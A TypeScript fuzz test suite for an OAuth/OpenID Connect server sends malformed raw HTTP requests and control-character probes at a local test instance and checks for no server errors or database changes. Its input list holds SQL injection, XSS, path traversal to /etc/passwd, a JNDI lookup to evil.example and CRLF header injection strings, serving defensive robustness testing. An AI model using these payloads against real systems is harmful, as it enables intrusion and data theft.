import assert from 'node:assert/strict';
import { connect } from 'node:net';
import { after, before, describe, test } from 'node:test';

import { captureAudit } from '../helpers/capture-audit.ts';
import { authorizationRequest, CookieJar, csrfToken, send } from '../helpers/browserless-login.ts';
import { basicAuth } from '../helpers/token-endpoint.ts';
import { startTestServer, type TestServer } from '../helpers/test-server.ts';

// Thousands of malformed requests to every route, written as raw bytes (so nothing on the
// client side tidies them up): bad encodings, invalid UTF-8, huge headers and bodies,
// wrong methods, injection strings and random OAuth parameters. Nothing may answer 5xx,
// hang or crash the server, and the database must be exactly as before, except for the
// one interaction each /auth request that reached the login page legitimately starts and
// the short-lived anonymous session each logout page stores for its CSRF state.
// Seeded: FUZZ_SEED=<n> repeats a run; FUZZ_COUNT=<n> changes its size; FUZZ_DEBUG=1 prints
// the failing requests in full and the server's error log.

const SEED = Number(process.env.FUZZ_SEED ?? 20_261_130);
const COUNT = Number(process.env.FUZZ_COUNT ?? 4_000);
const CONCURRENCY = 16;
const REDIRECT = 'https://app.example/callback';
const API = 'https://api.example/';

const audit = captureAudit();
let server: TestServer;
let port: number;
let ids: { web: string; webSecret: string; spa: string; service: string };
let real: { uid: string; cookie: string; csrf: string };

before(async () => {
  server = await startTestServer(
    {
      // The limiters stay on, with budgets large enough that the fuzz reaches the routes.
      TRUST_PROXY: 'true',
      RATE_LIMIT_IP: '1000000/1m',
      RATE_LIMIT_LOGIN: '1000000/1m',
      RATE_LIMIT_TOKEN: '1000000/1m',
      RATE_LIMIT_INTROSPECTION: '1000000/1m',
      RATE_LIMIT_REVOCATION: '1000000/1m',
      RATE_LIMIT_API: '1000000/1m',
      RATE_LIMIT_CLIENT: '1000000/1m',
      LOG_LEVEL: process.env.FUZZ_DEBUG ? 'error' : 'silent',
    },
    { audit },
  );
  port = Number(new URL(server.issuer).port);
  await server.services.accounts.create({ email: 'ann@example.com', name: 'Ann', password: 'ann has a long password' });
  await server.services.resources.create({ indicator: API, name: 'API', scopes: [{ name: 'read' }], accessTokenFormat: 'opaque' });
  const web = await server.services.clients.create({ type: 'web', name: 'Web', redirectUris: [REDIRECT], corsOrigins: ['https://app.example'], resources: [API], scopes: ['openid', 'read'] });
  const spa = await server.services.clients.create({ type: 'spa', name: 'SPA', redirectUris: [REDIRECT], corsOrigins: ['https://app.example'] });
  const service = await server.services.clients.create({ type: 'service', name: 'Batch', resources: [API], scopes: ['read'] });
  ids = { web: web.client.clientId, webSecret: web.clientSecret!, spa: spa.client.clientId, service: service.client.clientId };

  // One real login page, so the fuzz also reaches the forms with a valid interaction and CSRF.
  const jar = new CookieJar();
  let url = authorizationRequest(server.issuer, { client_id: ids.spa, redirect_uri: REDIRECT }).url;
  let response = await send(jar, url);
  while (response.status >= 300 && response.status < 400) {
    url = new URL(response.headers.get('location')!, url);
    response = await send(jar, url);
  }
  const html = await response.text();
  real = { uid: /\/interaction\/([^/"]+)\/login/.exec(html)![1]!, cookie: jar.header(), csrf: csrfToken(html) };
});

after(async () => {
  await server?.close();
});

// --- a seeded generator ---------------------------------------------------------------

function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const random = mulberry32(SEED);
const int = (n: number) => Math.floor(random() * n);
const pick = <T>(list: readonly T[]): T => list[int(list.length)]!;
const chance = (p: number) => random() < p;

const EVIL = [
  '',
  ' ',
  "' OR 1=1--",
  '"; DROP TABLE accounts; --',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%00',
  '\u0000',
  '%E0%A4%A',
  '%ff%fe%fd',
  '%C0%AF',
  '\uD800',
  '😀'.repeat(50),
  'ǅ̶̡͚̼̗̲̣̒̓ͤ',
  '{{7*7}}',
  '${jndi:ldap://evil.example/a}',
  '%0d%0aSet-Cookie:%20x=y',
  'null',
  'undefined',
  '[]',
  '{}',
  '{"$ne":null}',
  'true',
  '-1',
  '1e309',
  '0x7fffffff',
  'a'.repeat(5_000),
  'eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.',
  'eyJhbGciOiJFUzI1NiJ9.e30.AAAA',
  'https://evil.example/',
  'javascript:alert(1)',
  'data:text/html,<h1>x</h1>',
  '*',
];
const OAUTH_PARAMS = [
  'client_id', 'redirect_uri', 'response_type', 'scope', 'state', 'nonce', 'code_challenge', 'code_challenge_method', 'prompt',
  'max_age', 'claims', 'request', 'request_uri', 'resource', 'login_hint', 'id_token_hint', 'ui_locales', 'acr_values',
  'response_mode', 'post_logout_redirect_uri', 'logout_hint', 'token', 'token_type_hint', 'grant_type', 'code', 'refresh_token',
  'code_verifier', 'client_secret', 'client_assertion', 'client_assertion_type', 'access_token', 'email', 'password', 'csrf', 'xsrf',
  'display', 'registration', 'dpop_jkt', 'authorization_details',
];

function oauthValue(): string {
  return pick([
    () => pick(EVIL),
    () => pick([ids.web, ids.spa, ids.service, 'unknown-client']),
    () => pick([REDIRECT, `${REDIRECT}/x`, 'http://localhost:8080/callback']),
    () => pick(['code', 'token', 'id_token', 'code id_token', 'none']),
    () => pick(['openid', 'openid email profile offline_access', 'read', 'admin']),
    () => pick(['S256', 'plain', 'xyz']),
    () => pick(['login', 'consent', 'none', 'select_account', 'login consent']),
    () => pick(['authorization_code', 'refresh_token', 'client_credentials', 'password', 'urn:ietf:params:oauth:grant-type:device_code']),
    () => pick([API, `${server.issuer}/api`, 'https://other.example/']),
    () => pick(['{"userinfo":{"email":null}}', '{"id_token":', '[1,2]']),
    () => 'a'.repeat(43 + int(100)),
    () => String(int(1e9)),
  ])();
}

function encodeValue(value: string): string {
  // Mostly proper percent-encoding; sometimes raw, sometimes broken on purpose.
  if (chance(0.1)) return value.replace(/[\s#&]/g, '');
  if (chance(0.1)) return value.replace(/[^A-Za-z0-9]/g, () => pick(['%', '%G', '%E0%A4', '%ff', '%00', '+']));
  try {
    return encodeURIComponent(value);
  } catch {
    return '%ED%A0%80'; // a lone surrogate, as UTF-8 bytes
  }
}

function randomParams(): string {
  const pairs: string[] = [];
  const n = int(8);
  for (let i = 0; i < n; i++) {
    const name = chance(0.9) ? pick(OAUTH_PARAMS) : pick(EVIL);
    pairs.push(`${encodeValue(name)}=${encodeValue(oauthValue())}`);
    if (chance(0.1)) pairs.push(`${encodeValue(name)}=${encodeValue(oauthValue())}`); // duplicated
  }
  return pairs.join(pick(['&', '&', '&', ';', '&&']));
}

const ROUTES = [
  '/.well-known/openid-configuration',
  '/.well-known/oauth-authorization-server',
  '/.well-known/oauth-protected-resource',
  '/.well-known/oauth-protected-resource/api',
  '/jwks',
  '/auth',
  '/auth/nonexistent-uid',
  '/token',
  '/token/introspection',
  '/token/revocation',
  '/me',
  '/session/end',
  '/session/end/confirm',
  '/session/end/success',
  '/interaction/UID',
  '/interaction/UID/login',
  '/interaction/UID/confirm',
  '/interaction/UID/abort',
  '/interaction/UID/forgot',
  '/password-reset',
  '/password-reset/new',
  '/api/me',
  '/api/grants',
  '/api/grants/GRANT',
  '/assets/portcullis.css',
  '/assets/auto-submit.js',
  '/assets/../package.json',
  '/',
  '/nothing-here',
];
const METHODS = ['GET', 'GET', 'POST', 'POST', 'POST', 'HEAD', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'TRACE', 'CONNECT', 'get', 'FOO', 'M'.repeat(100), 'GE T'];

interface Fuzzed {
  readonly description: string;
  readonly bytes: Buffer;
}

function routePath(): string {
  let path = pick(ROUTES)
    .replace('UID', pick([real.uid, real.uid, 'x', 'a'.repeat(300), '%ff', '..', encodeValue(pick(EVIL)) || 'y']))
    .replace('GRANT', encodeValue(pick(EVIL)) || 'g');
  if (chance(0.05)) path = path.replace(/\//g, '//');
  if (chance(0.05)) path += '/';
  if (chance(0.03)) path = `/${'a/'.repeat(2_000)}`;
  return path;
}

function generate(): Fuzzed {
  const method = pick(METHODS);
  const path = routePath();
  let query = chance(0.6) ? `?${randomParams()}` : '';
  if (path === '/auth' && chance(0.3)) {
    // A well-formed authorization request with random extras: some reach the login page.
    const valid = `client_id=${ids.spa}&redirect_uri=${encodeURIComponent(REDIRECT)}&response_type=code&scope=openid&code_challenge=${'c'.repeat(43)}&code_challenge_method=S256`;
    query = `?${valid}${chance(0.5) ? `&${randomParams()}` : ''}`;
  }
  // Raw bytes in the request target sometimes: invalid UTF-8, spaces, control characters.
  const rawTarget = chance(0.05) ? Buffer.concat([Buffer.from(path), Buffer.from(pick([[0xff, 0xfe], [0xc3, 0x28], [0x00], [0x20, 0x41], [0x0d]]))]) : Buffer.from(path + query, 'latin1');

  const headers: string[] = [`Host: ${chance(0.97) ? `127.0.0.1:${port}` : pick(['', 'evil.example', 'a'.repeat(300)])}`];
  // The real browser's cookies only on the interaction pages: at /auth/:uid they would
  // legitimately resume (and replace) the real interaction.
  const cookie = path.startsWith('/interaction/') && chance(0.6) ? real.cookie : chance(0.3) ? `_interaction=${encodeValue(pick(EVIL))}; portcullis.device=${encodeValue(pick(EVIL))}` : '';
  if (cookie) headers.push(`Cookie: ${cookie}`);
  if (chance(0.3)) headers.push(`Authorization: ${pick([`Basic ${Buffer.from(`${ids.web}:${pick(EVIL)}`).toString('base64')}`, `Basic ${Buffer.from(`${ids.web}:${ids.webSecret}x`).toString('base64')}`, `Basic ${pick(EVIL)}`, `Bearer ${pick(EVIL)}`, 'Bearer', `Bearer ${'A'.repeat(10_000)}`, 'Basic Og==', pick(EVIL)])}`);
  if (chance(0.3)) headers.push(`Origin: ${pick(['https://app.example', 'https://evil.example', 'null', pick(EVIL)])}`);
  if (chance(0.3)) headers.push(`X-Forwarded-For: ${pick(['10.0.0.1', '2001:db8::1', '::ffff:10.0.0.2', pick(EVIL), '1.1.1.1, 2.2.2.2', ', , ,'])}`);
  if (chance(0.2)) headers.push(`X-Forwarded-Proto: ${pick(['https', 'http', pick(EVIL)])}`);
  if (chance(0.3)) headers.push(`Accept: ${pick(['text/html', 'application/json', '*/*', pick(EVIL)])}`);
  if (chance(0.1)) headers.push(`Access-Control-Request-Method: ${pick(['POST', 'DELETE', pick(EVIL)])}`);
  if (chance(0.05)) headers.push(`X-Huge: ${'h'.repeat(20_000 + int(40_000))}`);
  if (chance(0.05)) for (let i = 0; i < 150; i++) headers.push(`X-Many-${i}: ${i}`);
  if (chance(0.03)) headers.push('Bad Header Name: x');
  if (chance(0.03)) headers.push(`X-Bytes: ${String.fromCharCode(0xff, 0xfe)}`);

  // A body, in some shape, some of the time.
  let body = Buffer.alloc(0);
  let contentType: string | undefined;
  if (method !== 'GET' && method !== 'HEAD' ? chance(0.8) : chance(0.1)) {
    const shape = int(9);
    if (shape <= 2) {
      contentType = 'application/x-www-form-urlencoded';
      // The real CSRF token only for the login form (wrong passwords change nothing); at
      // /confirm and /abort it would legitimately finish the real interaction.
      const csrf = path.endsWith('/login') && chance(0.5) ? `csrf=${encodeURIComponent(real.csrf)}&` : '';
      body = Buffer.from(csrf + randomParams());
    } else if (shape === 3) {
      contentType = 'application/json';
      body = Buffer.from(pick(['{"grant_type":"client_credentials"}', '{"a":', '[]', 'null', JSON.stringify({ email: pick(EVIL), password: pick(EVIL) }), '{"__proto__":{"x":1}}']));
    } else if (shape === 4) {
      contentType = 'multipart/form-data; boundary=xyz';
      body = Buffer.from('--xyz\r\nContent-Disposition: form-data; name="grant_type"\r\n\r\nclient_credentials\r\n--xyz--\r\n');
    } else if (shape === 5) {
      contentType = pick(['application/x-www-form-urlencoded; charset=bogus', 'application/x-www-form-urlencoded; charset=utf-16', 'text/plain', 'application/xml', pick(EVIL)]);
      body = Buffer.from([0xff, 0xfe, 0x00, 0xc3, 0x28, 0x3d, 0x26, 0x61, 0x3d, 0xe2, 0x82]);
    } else if (shape === 6) {
      contentType = 'application/x-www-form-urlencoded';
      body = Buffer.from(`grant_type=client_credentials&pad=${'p'.repeat(pick([17_000, 60_000, 200_000, 1_500_000]))}`);
    } else if (shape === 7) {
      contentType = 'application/x-www-form-urlencoded';
      body = Buffer.from(`email=${'a'.repeat(5_000)}%40x.com&password=${'p'.repeat(pick([100, 2_000, 15_000]))}${path.endsWith('/login') ? `&csrf=${encodeURIComponent(real.csrf)}` : ''}`);
    } else {
      contentType = chance(0.5) ? 'application/x-www-form-urlencoded' : undefined;
      body = Buffer.from(Array.from({ length: int(3_000) }, () => int(256)));
    }
  }
  if (contentType !== undefined) headers.push(`Content-Type: ${contentType}`);
  const framing = int(10);
  let payload = body;
  if (body.length > 0 && framing === 0) {
    headers.push('Transfer-Encoding: chunked');
    payload = Buffer.concat([Buffer.from(`${body.length.toString(16)}\r\n`), body, Buffer.from('\r\n0\r\n\r\n')]);
  } else if (body.length > 0 && framing === 1) {
    headers.push(`Content-Length: ${Math.max(0, body.length - 1 - int(10))}`); // shorter than sent
  } else if (body.length > 0 || chance(0.5)) {
    headers.push(`Content-Length: ${body.length}`);
  }
  headers.push('Connection: close');

  const head = Buffer.concat([Buffer.from(`${method} `, 'latin1'), rawTarget, Buffer.from(` HTTP/1.1\r\n${headers.join('\r\n')}\r\n\r\n`, 'latin1')]);
  return { description: `${method} ${rawTarget.toString('latin1').slice(0, 120)} [${contentType ?? '-'} ${body.length} bytes]`, bytes: Buffer.concat([head, payload]) };
}

// --- a raw client -----------------------------------------------------------------------

interface Outcome {
  readonly status: number | 'reset' | 'timeout';
  readonly location?: string | undefined;
  /** The response set a new session cookie: the engine stored a session. */
  readonly newSession?: boolean;
}

function sendRaw(bytes: Buffer): Promise<Outcome> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    let received = Buffer.alloc(0);
    let done = false;
    const finish = (outcome: Outcome) => {
      if (done) return;
      done = true;
      socket.destroy();
      resolve(outcome);
    };
    const parsed = (): Outcome | undefined => {
      const text = received.toString('latin1');
      const end = text.indexOf('\r\n\r\n');
      const status = /^HTTP\/1\.[01] (\d{3})/.exec(text);
      if (!status || end < 0) return undefined;
      const head = text.slice(0, end);
      return { status: Number(status[1]), location: /\r\nlocation: ([^\r\n]*)/i.exec(head)?.[1], newSession: /\r\nset-cookie: _session=[^;\r\n]+/i.test(head) };
    };
    socket.setTimeout(10_000, () => finish({ status: 'timeout' }));
    socket.on('data', (chunk: Buffer) => {
      received = Buffer.concat([received, chunk]);
      const outcome = parsed();
      if (outcome) finish(outcome);
    });
    socket.on('error', () => finish(parsed() ?? { status: 'reset' }));
    socket.on('close', () => finish(parsed() ?? { status: 'reset' }));
    socket.write(bytes, () => {});
  });
}

// --- the database, before and after ------------------------------------------------------

type Snapshot = Map<string, { count: number; digest: string }>;

async function snapshot(): Promise<{ tables: Snapshot; interactions: Map<string, string>; sessions: Map<string, string> }> {
  const pool = server.database.pool;
  const names = (await pool.query<{ table_name: string }>("SELECT table_name FROM information_schema.tables WHERE table_schema = 'public' AND table_type = 'BASE TABLE' ORDER BY 1")).rows.map((row) => row.table_name);
  const tables: Snapshot = new Map();
  for (const name of names) {
    if (name === 'oidc_interactions' || name === 'oidc_sessions') continue; // accounted for row by row below
    const { rows } = await pool.query<{ count: number; digest: string | null }>(`SELECT count(*)::int AS count, md5(coalesce(string_agg(t::text, '|' ORDER BY t::text), '')) AS digest FROM "${name}" t`);
    tables.set(name, { count: rows[0]!.count, digest: rows[0]!.digest ?? '' });
  }
  const rows = async (table: string): Promise<Map<string, string>> => new Map((await pool.query<{ id: string; row: string }>(`SELECT id, md5(t::text) AS row FROM ${table} t`)).rows.map((row) => [row.id, row.row]));
  return { tables, interactions: await rows('oidc_interactions'), sessions: await rows('oidc_sessions') };
}

test(`${COUNT} malformed requests to every route: no 5xx, no hang, the database unchanged`, { timeout: 120_000 }, async () => {
  const before = await snapshot();
  assert.ok(before.tables.size >= 10, 'the snapshot covers the schema');
  assert.equal(before.interactions.size, 1, 'the one real interaction');

  const failures: string[] = [];
  const statuses = new Map<string, number>();
  const interactionsStarted = new Set<string>();
  let sessionsStored = 0;
  let next = 0;
  const started = performance.now();
  await Promise.all(
    Array.from({ length: CONCURRENCY }, async () => {
      while (next < COUNT) {
        next++;
        const request = generate();
        const outcome = await sendRaw(request.bytes);
        const key = String(outcome.status);
        statuses.set(key, (statuses.get(key) ?? 0) + 1);
        // A 5xx or a hang fails; so does a dropped connection, except for CONNECT (which
        // Node's server closes itself: no 'connect' listener, nothing to tunnel).
        const dropped = outcome.status === 'reset' && !request.description.startsWith('CONNECT ');
        if (dropped || outcome.status === 'timeout' || (typeof outcome.status === 'number' && outcome.status >= 500)) {
          failures.push(`${outcome.status} <- ${process.env.FUZZ_DEBUG ? request.bytes.toString('latin1').slice(0, 1500) : request.description}`);
        }
        const started = /^\/interaction\/([^/?#]+)$/.exec(outcome.location ?? '')?.[1];
        if (started) interactionsStarted.add(started);
        if (outcome.newSession) sessionsStored++;
      }
    }),
  );
  const seconds = (performance.now() - started) / 1000;
  console.log(
    `fuzz seed ${SEED}: ${COUNT} requests in ${seconds.toFixed(1)} s; statuses ${JSON.stringify(Object.fromEntries([...statuses].sort()))}; ` +
      `${interactionsStarted.size} interactions started, ${sessionsStored} anonymous sessions stored`,
  );

  if (process.env.FUZZ_DEBUG) console.log(server.logs());
  assert.deepEqual(failures.slice(0, 10), [], `${failures.length} requests failed (seed ${SEED})`);
  // Still serving.
  assert.equal((await fetch(`${server.issuer}/.well-known/openid-configuration`)).status, 200);
  assert.ok((statuses.get('200') ?? 0) > 0 && (statuses.get('400') ?? 0) > 0, 'the fuzz reached the routes');

  const afterwards = await snapshot();
  for (const [name, state] of before.tables) assert.deepEqual(afterwards.tables.get(name), state, `table ${name} changed`);
  for (const [id, row] of before.interactions) assert.equal(afterwards.interactions.get(id), row, 'the existing interaction is untouched');
  const created = [...afterwards.interactions.keys()].filter((id) => !before.interactions.has(id)).sort();
  assert.deepEqual(created, [...interactionsStarted].sort(), 'new interactions are exactly those the engine sent a browser to');
  // The engine stores a session for the CSRF state of every logout page it shows (GET
  // /session/end), even to a stranger: one per response that set a new session cookie,
  // nobody signed in to any, and each expires in minutes (provider-config ttl.Session).
  assert.equal(before.sessions.size, 0);
  assert.equal(afterwards.sessions.size, sessionsStored, 'one session per new session cookie');
  const stored = (await server.database.pool.query<{ signed_in: boolean; minutes: number }>(
    "SELECT (payload ? 'accountId') AS signed_in, extract(epoch FROM expires_at - now()) / 60 AS minutes FROM oidc_sessions",
  )).rows;
  assert.ok(stored.every((row) => !row.signed_in && row.minutes <= 10), 'anonymous and short-lived');
  assert.ok(!audit.events.some((event) => event.type === 'login.success'), 'nobody signed in');
});

// --- control characters in the values that are looked up -------------------------------
//
// Postgres refuses a NUL in text, so a NUL in any value the server looks up in the
// database (a client id, a token, a code, a request_uri) used to surface as a 500 with a
// stack in the log. Each must be an answer in the protocol's shape (a 4xx with `error`, or
// what the endpoint says of an unknown token), logged without a stack. Other control
// characters ride along: they must be just as harmless.

describe('control characters in looked-up values', () => {
  const CONTROLS = ['\u0000', 'a\u0000b', '\u0001', '\u001b[2K', '\u007f', '\u0085', '\r\n'];
  let target: TestServer;
  let spa: string;
  let web: { id: string; secret: string };

  before(async () => {
    target = await startTestServer({ LOG_LEVEL: 'info' });
    const { clients } = target.services;
    spa = (await clients.create({ type: 'spa', name: 'SPA', redirectUris: [REDIRECT] })).client.clientId;
    const created = await clients.create({ type: 'web', name: 'Web', redirectUris: [REDIRECT] });
    web = { id: created.client.clientId, secret: created.clientSecret! };
  });
  after(async () => {
    await target?.close();
  });

  const rawBasic = (id: string, secret: string) => `Basic ${Buffer.from(`${id}:${secret}`).toString('base64')}`;

  interface Probe {
    readonly name: string;
    readonly method: 'GET' | 'POST';
    readonly path: string;
    readonly fields: Record<string, string>;
    readonly authorization?: string;
  }

  async function ask(probe: Probe): Promise<{ status: number; body: unknown; location: string | null }> {
    const query = new URLSearchParams(probe.fields).toString();
    const response = await fetch(`${target.issuer}${probe.path}${probe.method === 'GET' ? `?${query}` : ''}`, {
      method: probe.method,
      redirect: 'manual',
      headers: {
        accept: 'application/json',
        ...(probe.method === 'POST' && { 'content-type': 'application/x-www-form-urlencoded' }),
        ...(probe.authorization && { authorization: probe.authorization }),
      },
      ...(probe.method === 'POST' && { body: query }),
    });
    const text = await response.text();
    let body: unknown = text;
    try {
      body = JSON.parse(text);
    } catch {
      // a page or an empty body
    }
    return { status: response.status, body, location: response.headers.get('location') };
  }

  /**
   * An error in the protocol's shape: JSON with `error`; for the authorization endpoint
   * (which shows people pages) an error page, or a redirect carrying `error` to the
   * client's registered redirect URI; or what introspection and revocation answer for a
   * token they do not know.
   */
  function inProtocolShape(probe: Probe, answer: { status: number; body: unknown; location: string | null }): boolean {
    const { status, body, location } = answer;
    if (status >= 400 && status < 500 && typeof (body as { error?: unknown } | null)?.error === 'string') return true;
    if (probe.path === '/auth' && status >= 400 && status < 500 && typeof body === 'string' && body.includes('<html')) return true;
    if (probe.path === '/auth' && status === 303 && location?.startsWith(`${REDIRECT}?`) && new URL(location).searchParams.has('error')) return true;
    if (probe.path === '/token/introspection' && status === 200 && (body as { active?: unknown } | null)?.active === false) return true;
    return probe.path === '/token/revocation' && status === 200;
  }

  /** What the server logged with a stack (an error it did not expect). */
  function stacks(since: number): string[] {
    return target
      .logs()
      .slice(since)
      .split('\n')
      .filter((line) => /"stack"|\\n\s+at /.test(line));
  }

  function authorizationFields(clientId: string): Record<string, string> {
    return { client_id: clientId, redirect_uri: REDIRECT, response_type: 'code', scope: 'openid', code_challenge: 'c'.repeat(43), code_challenge_method: 'S256' };
  }

  /** Every endpoint that looks a client up by an id the request names. */
  function clientIdProbes(bad: string): Probe[] {
    return [
      { name: 'authorization client_id (GET)', method: 'GET', path: '/auth', fields: authorizationFields(bad) },
      { name: 'PAR client_id', method: 'POST', path: '/request', fields: authorizationFields(bad) },
      { name: 'PAR Basic', method: 'POST', path: '/request', fields: authorizationFields(bad), authorization: basicAuth(bad, 'secret') },
      { name: 'token client_id', method: 'POST', path: '/token', fields: { grant_type: 'authorization_code', code: 'x', client_id: bad, code_verifier: 'v'.repeat(43), redirect_uri: REDIRECT } },
      { name: 'token client_id and secret', method: 'POST', path: '/token', fields: { grant_type: 'client_credentials', client_id: bad, client_secret: 'secret' } },
      { name: 'token Basic', method: 'POST', path: '/token', fields: { grant_type: 'client_credentials' }, authorization: basicAuth(bad, 'secret') },
      { name: 'token Basic, not form-encoded', method: 'POST', path: '/token', fields: { grant_type: 'client_credentials' }, authorization: rawBasic(bad, 'secret') },
      { name: 'introspection Basic', method: 'POST', path: '/token/introspection', fields: { token: 'x' }, authorization: basicAuth(bad, 'secret') },
      { name: 'introspection client_id', method: 'POST', path: '/token/introspection', fields: { token: 'x', client_id: bad } },
      { name: 'revocation Basic', method: 'POST', path: '/token/revocation', fields: { token: 'x' }, authorization: basicAuth(bad, 'secret') },
      { name: 'end session client_id', method: 'GET', path: '/session/end', fields: { client_id: bad } },
    ];
  }

  /** Every endpoint that looks up a token, a code or a pushed request by its value. */
  function tokenProbes(bad: string): Probe[] {
    const asWeb = basicAuth(web.id, web.secret);
    return [
      { name: 'token code', method: 'POST', path: '/token', fields: { grant_type: 'authorization_code', code: bad, redirect_uri: REDIRECT, code_verifier: 'v'.repeat(43) }, authorization: asWeb },
      { name: 'token refresh_token', method: 'POST', path: '/token', fields: { grant_type: 'refresh_token', refresh_token: bad }, authorization: asWeb },
      { name: 'introspection token', method: 'POST', path: '/token/introspection', fields: { token: bad }, authorization: asWeb },
      { name: 'introspection token with a hint', method: 'POST', path: '/token/introspection', fields: { token: bad, token_type_hint: 'refresh_token' }, authorization: asWeb },
      { name: 'revocation token', method: 'POST', path: '/token/revocation', fields: { token: bad }, authorization: asWeb },
      { name: 'userinfo access_token', method: 'POST', path: '/me', fields: { access_token: bad } },
      { name: 'authorization request_uri', method: 'GET', path: '/auth', fields: { client_id: spa, request_uri: `urn:ietf:params:oauth:request_uri:${bad}` } },
    ];
  }

  test('in a client id, at every endpoint that looks one up: a 4xx in the protocol\'s shape, and no stack in the log', async () => {
    const since = target.logs().length;
    const failures: string[] = [];
    for (const control of CONTROLS) {
      for (const probe of clientIdProbes(`${ids.web}${control}`)) {
        const answer = await ask(probe);
        const refused = answer.status >= 400 && answer.status < 500 && inProtocolShape(probe, answer);
        if (!refused) failures.push(`${probe.name} ${JSON.stringify(control)}: ${answer.status} ${JSON.stringify(answer.body).slice(0, 120)}`);
      }
    }
    assert.deepEqual(failures, []);
    assert.deepEqual(stacks(since), []);
  });

  /**
   * Every request whose parameters the engine stores (a pushed request, an interaction).
   * (`claims` is not among them: the claims parameter is not enabled, so the engine drops it.)
   */
  function storedValueProbes(bad: string): Probe[] {
    const asWeb = basicAuth(web.id, web.secret);
    const pushed = (extra: Record<string, string>): Probe => ({
      name: `PAR ${Object.keys(extra).join(',')}`,
      method: 'POST',
      path: '/request',
      fields: { ...authorizationFields(web.id), ...extra },
      authorization: asWeb,
    });
    const authorize = (extra: Record<string, string>): Probe => ({
      name: `authorization ${Object.keys(extra).join(',')}`,
      method: 'GET',
      path: '/auth',
      fields: { ...authorizationFields(spa), ...extra },
    });
    return [
      pushed({ state: bad }),
      pushed({ nonce: bad }),
      pushed({ login_hint: bad }),
      pushed({ ui_locales: bad }),
      authorize({ state: bad }),
      authorize({ nonce: bad }),
      authorize({ login_hint: bad }),
      authorize({ acr_values: bad }),
    ];
  }

  test('in a parameter the engine stores (state, nonce, login_hint, acr_values, ui_locales; PAR and interaction payloads): a 4xx in the protocol\'s shape, no stack, nothing half-written', async () => {
    const since = target.logs().length;
    const { prisma } = target.database;
    const rows = async () => [await prisma.oidcPushedAuthorizationRequest.count(), await prisma.oidcInteraction.count(), await prisma.oidcSession.count()];
    const before = await rows();
    const failures: string[] = [];
    for (const probe of storedValueProbes('a\u0000b')) {
      const answer = await ask(probe);
      const refused = (answer.status >= 400 && answer.status < 500) || answer.status === 303;
      if (!refused || !inProtocolShape(probe, answer)) failures.push(`${probe.name}: ${answer.status} ${JSON.stringify(answer.body).slice(0, 160)} ${answer.location ?? ''}`);
    }
    assert.deepEqual(failures, []);
    assert.deepEqual(stacks(since), []);
    assert.deepEqual(await rows(), before, 'nothing was stored');
  });

  // Fails until the storage adapter looks values up by their hash (the lead's change to
  // src/oidc/engine-adapter.ts): a hash holds no NUL. Kept apart so it is seen going green.
  test('in a token, code, refresh token or request_uri, looked up by the storage adapter: an answer in the protocol\'s shape, and no stack in the log', async () => {
    const since = target.logs().length;
    const failures: string[] = [];
    for (const control of CONTROLS) {
      for (const probe of tokenProbes(`${'t'.repeat(20)}${control}${'t'.repeat(20)}`)) {
        const answer = await ask(probe);
        if (!inProtocolShape(probe, answer)) failures.push(`${probe.name} ${JSON.stringify(control)}: ${answer.status} ${JSON.stringify(answer.body).slice(0, 120)}`);
      }
    }
    assert.deepEqual(failures, []);
    assert.deepEqual(stacks(since), []);
  });
});
